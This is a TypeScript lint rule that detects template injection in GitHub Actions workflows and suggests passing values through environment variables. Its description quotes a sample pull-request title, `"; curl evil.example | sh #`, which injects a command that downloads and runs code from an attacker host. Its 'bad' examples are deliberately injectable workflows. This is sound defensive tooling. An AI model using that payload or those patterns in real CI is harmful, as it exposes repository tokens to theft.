import type { Expression } from '../../analysis';
import { rule } from '../../rule';
import type { ScalarNode } from '../../yaml/node';
import { dangerOf, sourcesOf, worse } from './context-danger';
import type { Danger } from './context-danger';
import { workflowOf } from '../examples';
import { environmentFix } from './template-fix';
import { isSink } from './template-sinks';

const severities = { arbitrary: 'warning', derived: 'warning', unknown: 'info', fixed: 'off' } as const;

const messages: Readonly<Record<Danger, (what: string) => string>> = {
  arbitrary: (what) => `Whoever chooses ${what} can run commands here: pass it in an environment variable.`,
  derived: (what) => `${what} is computed and becomes a part of the script: pass it in an environment variable.`,
  unknown: (what) => `The value of ${what} becomes a part of the script: pass it in an environment variable.`,
  fixed: (what) => `${what} becomes a part of the script.`,
};

export const templateInjection = rule({
  code: 'template-injection',
  category: 'security',
  title: 'A value becomes a part of a script',
  severity: 'warning',
  description:
    'GitHub puts the value of `${{ }}` into the script before the shell reads it. A pull request with the title `"; curl evil.example | sh #` so runs commands with your token. Put the value into `env:` and use the variable: a shell never runs what is in a variable. Values that nobody from outside can choose are reported only when all rules are on.',
  bad: [
    workflowOf('- run: echo "${{ github.event.pull_request.title }}"', { on: 'pull_request' }),
    workflowOf('- run: |\n    git switch ${{ github.head_ref }}\n    cargo test', { on: 'pull_request' }),
    workflowOf("- uses: actions/github-script@v8\n  with:\n    script: core.info('${{ github.event.issue.title }}')", {
      on: 'issues',
    }),
    workflowOf('- run: cargo test ${{ env.FLAGS }}'),
  ],
  good: [
    workflowOf('- run: echo "$TITLE"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}', {
      on: 'pull_request',
    }),
    workflowOf('- uses: actions/cache@v5\n  with:\n    path: target\n    key: ${{ github.head_ref }}'),
  ],
  links: ['https://securitylab.github.com/resources/github-actions-untrusted-input/'],
  source: 'zizmor: template-injection, actionlint: expression (untrusted inputs)',
  files: ['workflow', 'action'],
  check: (context) => {
    const sinks = context.expressions.filter(isSink);
    const byScript = new Map<ScalarNode, Expression[]>();
    for (const expression of sinks) {
      const others = byScript.get(expression.scalar);
      if (others === undefined) byScript.set(expression.scalar, [expression]);
      else others.push(expression);
    }
    for (const expression of sinks) {
      const { parsed, place, source } = expression;
      if (parsed.ast === undefined) continue;
      let danger: Danger = 'fixed';
      let worst: string | undefined;
      for (const part of sourcesOf(parsed.ast)) {
        const found = dangerOf(part, place, context);
        if (worst === undefined || worse(found, danger) !== danger) worst = source.slice(part.start, part.end).trim();
        danger = worse(found, danger);
      }
      const what = worst ?? (source.trim().length > 60 ? 'This value' : source.trim());
      const fix = environmentFix(context, expression, byScript.get(expression.scalar) ?? []);
      context.report(expression.range(parsed.ast), messages[danger](what.length > 120 ? 'this value' : what), {
        severity: severities[danger],
        fixes: fix === undefined ? [] : [fix],
      });
    }
  },
});
